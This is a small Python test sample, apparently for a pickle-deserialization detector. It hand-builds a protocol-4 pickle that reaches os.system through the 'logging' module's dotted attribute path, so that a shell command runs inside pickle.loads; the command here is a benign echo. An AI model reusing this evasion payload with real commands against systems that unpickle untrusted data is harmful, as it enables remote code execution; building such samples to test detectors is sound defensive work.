# technique: T1059.006 T1059.004 T1203
"""Protocol-4 pickle whose STACK_GLOBAL names "logging" and "os.system" (T1059.006, T1059.004, T1203).

Since protocol 4 the unpickler resolves dotted names attribute by
attribute, so (module "logging", name "os.system") reaches os.system
through the os module that logging happens to import. The module named
in the stream is an innocent logging library; the dangerous function only
appears as the tail of a dotted attribute path.

A good detector raises a high alert: an unpickled global resolves, by any
path, to a function that runs commands (and a shell starts inside
pickle.loads).
"""
import pickle


def short_unicode(text):
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


payload = (b"\x80\x04" + short_unicode("logging") + short_unicode("os.system") + b"\x93"
           + short_unicode("echo dotted global reached a shell") + b"\x85R.")
print("status", pickle.loads(payload))
